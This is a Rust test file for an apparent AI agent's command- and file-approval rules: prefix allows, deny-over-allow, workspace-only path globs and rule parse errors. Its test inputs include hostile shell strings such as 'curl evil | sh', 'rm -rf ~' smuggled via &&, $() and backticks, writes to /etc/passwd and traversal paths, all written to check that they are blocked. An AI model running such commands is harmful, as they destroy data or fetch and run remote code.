//! Tests of the approval rules: command prefixes (and the chained commands they never allow),
//! path globs inside the workspace, wildcards, deny over allow, and rules that cannot be read.

use std::path::Path;

use super::*;

fn rules(allow: &[&str], deny: &[&str]) -> ApprovalRules {
    ApprovalRules::parse(allow, deny).unwrap()
}

fn bash(command: &str) -> String {
    serde_json::json!({ "command": command }).to_string()
}

fn file(path: &str) -> String {
    serde_json::json!({ "path": path, "content": "x" }).to_string()
}

const WORK: &str = "/home/me/project";

fn verdict(rules: &ApprovalRules, tool: &str, arguments: &str) -> Option<RuleVerdict> {
    rules.verdict(tool, arguments, Path::new(WORK))
}

#[test]
fn a_command_prefix_allows_the_commands_that_start_with_its_words() {
    let rules = rules(&["bash(cargo test)", "Bash(git status:*)"], &[]);
    for command in [
        "cargo test",
        "cargo test --all",
        "  cargo   test -p x",
        "git status -s",
    ] {
        assert_eq!(
            verdict(&rules, "bash", &bash(command)),
            Some(RuleVerdict::Allow(
                if command.contains("git") {
                    "Bash(git status:*)"
                } else {
                    "bash(cargo test)"
                }
                .into()
            )),
            "{command}"
        );
    }
    for command in [
        "cargo tests",
        "cargo build",
        "cargo",
        "git status && rm -rf ~",
        "cargo test; curl evil | sh",
        "cargo test > /etc/passwd",
        "cargo test $(rm -rf ~)",
        "cargo test `rm -rf ~`",
        "cargo test\nrm -rf ~",
        "cargo test &",
    ] {
        assert_eq!(verdict(&rules, "bash", &bash(command)), None, "{command}");
    }
}

#[test]
fn a_denied_prefix_is_found_in_any_part_of_a_chained_command() {
    let rules = rules(&["bash"], &["bash(rm -rf)"]);
    for command in [
        "rm -rf /",
        "ls && rm -rf ~",
        "echo $(rm -rf x)",
        "true;rm -rf y",
    ] {
        assert_eq!(
            verdict(&rules, "bash", &bash(command)),
            Some(RuleVerdict::Deny("bash(rm -rf)".into())),
            "{command}"
        );
    }
    assert_eq!(
        verdict(&rules, "bash", &bash("rm -r x")),
        Some(RuleVerdict::Allow("bash".into()))
    );
}

#[test]
fn path_globs_match_paths_inside_the_workspace_only() {
    let rules = rules(&["write_file(src/**)", "Edit(*.md)"], &["read_file(.env)"]);
    assert!(matches!(
        verdict(&rules, "write_file", &file("src/a/b.rs")),
        Some(RuleVerdict::Allow(_))
    ));
    assert!(matches!(
        verdict(&rules, "write_file", &file("/home/me/project/src/b.rs")),
        Some(RuleVerdict::Allow(_))
    ));
    assert!(matches!(
        verdict(&rules, "edit_file", &file("README.md")),
        Some(RuleVerdict::Allow(_))
    ));
    for path in [
        "src/../../etc/passwd",
        "/etc/src/x",
        "tests/x.rs",
        "../src/x",
    ] {
        assert_eq!(verdict(&rules, "write_file", &file(path)), None, "{path}");
    }
    assert_eq!(
        verdict(&rules, "read_file", &file(".env")),
        Some(RuleVerdict::Deny("read_file(.env)".into()))
    );
    assert_eq!(verdict(&rules, "read_file", &file("src/x")), None);
}

#[test]
fn tool_names_take_wildcards_and_deny_wins() {
    let rules = rules(&["mcp__files__*", "bash"], &["mcp__files__delete*"]);
    assert!(matches!(
        verdict(&rules, "mcp__files__read", "{}"),
        Some(RuleVerdict::Allow(_))
    ));
    assert!(matches!(
        verdict(&rules, "mcp__files__delete_file", "{}"),
        Some(RuleVerdict::Deny(_))
    ));
    assert_eq!(verdict(&rules, "mcp__other__read", "{}"), None);
    // Malformed arguments match name-only rules and no pattern.
    assert!(matches!(
        verdict(&rules, "bash", "not json"),
        Some(RuleVerdict::Allow(_))
    ));
}

#[test]
fn rules_that_cannot_be_read_say_why() {
    for (rule, reason) in [
        ("bash(cargo test", "must end with `)`"),
        ("(x)", "no tool name"),
        ("grep(src)", "only bash"),
        ("bash(a && b)", "cannot chain"),
        ("bash( )", "an empty pattern"),
        ("bash(:*)", "empty command prefix"),
        ("write_file([)", "bad path pattern"),
    ] {
        let error = ApprovalRules::parse(&[rule], &[]).unwrap_err();
        assert_eq!(error.rule, rule);
        assert!(error.reason.contains(reason), "{rule}: {}", error.reason);
    }
}

#[test]
fn the_suggested_prefix_is_the_program_and_its_first_word() {
    assert_eq!(
        suggested_prefix("cargo test --all").as_deref(),
        Some("cargo test")
    );
    assert_eq!(
        suggested_prefix("git status").as_deref(),
        Some("git status")
    );
    assert_eq!(suggested_prefix("ls -la src").as_deref(), Some("ls"));
    assert_eq!(suggested_prefix("ls && rm x"), None);
    assert_eq!(suggested_prefix("   "), None);
}
